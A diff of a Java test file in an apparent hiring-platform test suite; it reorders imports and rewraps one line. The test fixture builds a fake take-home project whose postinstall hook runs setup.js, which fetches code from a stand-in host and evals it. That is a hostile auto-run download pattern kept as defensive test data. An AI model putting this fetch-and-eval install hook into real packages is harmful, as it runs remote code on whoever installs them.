@@ -14,8 +14,10 @@ import dev.bonafide.postgres.Database;
 import dev.bonafide.postgres.casefile.OutsideRecords;
 import dev.bonafide.testkit.hiring.FakeCandidate;
 import dev.bonafide.testkit.hiring.SignedHook;
+import dev.bonafide.testkit.interview.Zipped;
 import dev.bonafide.testkit.slack.FakeSlack;
 import dev.bonafide.testkit.slack.workspace.Channel;
+import dev.bonafide.testkit.slack.workspace.SharedFile;
 import java.net.URI;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
@@ -24,19 +26,17 @@ import java.net.http.HttpResponse;
 import java.net.http.HttpResponse.BodyHandlers;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
+import java.security.MessageDigest;
+import java.security.NoSuchAlgorithmException;
 import java.time.Duration;
 import java.time.Instant;
 import java.time.InstantSource;
 import java.util.ArrayList;
 import java.util.HashMap;
+import java.util.HexFormat;
 import java.util.List;
 import java.util.Map;
 import java.util.stream.Stream;
-import dev.bonafide.testkit.interview.Zipped;
-import dev.bonafide.testkit.slack.workspace.SharedFile;
-import java.security.MessageDigest;
-import java.security.NoSuchAlgorithmException;
-import java.util.HexFormat;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.CleanupMode;
 import org.junit.jupiter.api.io.TempDir;
@@ -56,7 +56,8 @@ class ErasedEverywhereTest {
       Zipped.of(
           Map.of(
               "zq-takehome/package.json",
-              bytes("{\"name\": \"zq-takehome\", \"scripts\": {\"postinstall\": \"node setup.js\"}}"),
+              bytes(
+                  "{\"name\": \"zq-takehome\", \"scripts\": {\"postinstall\": \"node setup.js\"}}"),
               "zq-takehome/setup.js",
               bytes("fetch('https://zqcodes.example/x').then((it) => it.text()).then(eval);\n")));
 
